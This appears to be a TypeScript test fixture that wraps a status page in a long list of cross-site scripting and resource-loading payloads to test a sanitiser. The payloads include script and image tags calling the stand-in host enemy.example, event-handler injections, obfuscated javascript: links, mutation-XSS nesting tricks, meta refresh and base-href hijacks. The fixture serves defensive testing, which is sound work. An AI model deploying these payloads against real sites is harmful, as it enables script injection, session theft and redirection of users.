import { exampleNotes, exampleRows, statusPageHtml } from './status-page-fixture.js';

/** Where everything of the hostile page would lead. */
export const enemy = 'https://enemy.example';

const attacks = [
  `<script>document.title = 'taken'; fetch('${enemy}/fetch')</script>`,
  `<script src="${enemy}/script.js"></script>`,
  `<img src="${enemy}/picture.png" onerror="document.title = 'taken'">`,
  `<img srcset="${enemy}/set.png 1x">`,
  `<image src="${enemy}/image.png">`,
  `<input type="image" src="${enemy}/button.png">`,
  `<iframe src="${enemy}/frame"></iframe><iframe srcdoc="<script>parent.document.title='taken'</script>"></iframe>`,
  `<object data="${enemy}/object"></object><embed src="${enemy}/embed">`,
  `<link rel="stylesheet" href="${enemy}/style.css"><link rel="prefetch" href="${enemy}/prefetch">`,
  `<style>body { background: url(${enemy}/background.png) } @import '${enemy}/import.css';</style>`,
  `<div style="background: url('${enemy}/inline.png'); position: fixed; inset: 0">over all</div>`,
  `<meta http-equiv="refresh" content="0; url=${enemy}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${enemy}/"><a href="/based">relative</a>`,
  `<a href="javascript:document.title='taken'" ping="${enemy}/ping">javascript</a>`,
  `<a href=" \tjava&#115;cript:document.title='taken'">entities</a>`,
  `<a href="${enemy}/link" target="_top">away</a>`,
  `<area href="${enemy}/area">`,
  `<form action="${enemy}/submit" method="post"><input name="a"><button formaction="${enemy}/button">go</button></form>`,
  `<svg onload="document.title='taken'"><script>document.title='taken'</script><image href="${enemy}/svg.png"/><use href="${enemy}/use.svg#a"/></svg>`,
  `<svg><style><img src=x onerror="document.title='taken'"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='taken'&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=document.title='taken'>"></noscript>`,
  `<template><script>document.title='taken'</script></template>`,
  `<video src="${enemy}/video" poster="${enemy}/poster.png" autoplay></video><audio src="${enemy}/audio"></audio>`,
  `<body onload="document.title='taken'" background="${enemy}/body.png">`,
  `<table background="${enemy}/table.png"><tr><td background="${enemy}/cell.png" onclick="alert(1)">cell</td></tr></table>`,
  `<p onmouseover="document.title='taken'" autofocus onfocus="document.title='taken'" tabindex="1">over</p>`,
  `<details ontoggle="document.title='taken'" open>details</details>`,
  `<marquee onstart="document.title='taken'">marquee</marquee>`,
  `<textarea></textarea><img src=x onerror="document.title='taken'"></textarea>`,
  `<title><img src=x onerror="document.title='taken'"></title>`,
  `<xmp><img src=x onerror="document.title='taken'"></xmp>`,
  `<!--><img src=x onerror="document.title='taken'">-->`,
  `<![CDATA[<img src=x onerror="document.title='taken'">]]>`,
  `<a name='read' id='read'>a false mark</a><tr data-row="ALB"><td>a false row</td></tr>`,
  `<p data-row="ALB" class="read" id="read" aria-current="true">another</p>`,
  `<p lang='en"onclick="document.title=1' align='left" onclick="x'>attributes</p>`,
  `<b/onclick=document.title='taken'>slash</b>`,
  `&lt;script&gt;document.title='taken'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;`,
  // Once the tag between is gone, what stands around it would be one.
  `<<n>img src="${enemy}/joined.png" onerror="document.title='taken'">`,
  `<<n>script>document.title='taken'<<n>/script>`,
  `a < b > c <3`,
];

/**
 * A good page, and around its table whatever a page can do to who opens it. What would tear the table, or never ends,
 * is none of them: of such a page nothing is believed.
 */
export function hostilePage(page = statusPageHtml({ rows: exampleRows, notes: exampleNotes })): string {
  const [before = '', after = ''] = page.split(/(?<=<body[^>]*>)/);
  const end = after.lastIndexOf('</form>');
  return `${before}${attacks.join('\n')}${after.slice(0, end)}${attacks.join('\n')}${after.slice(end)}`;
}
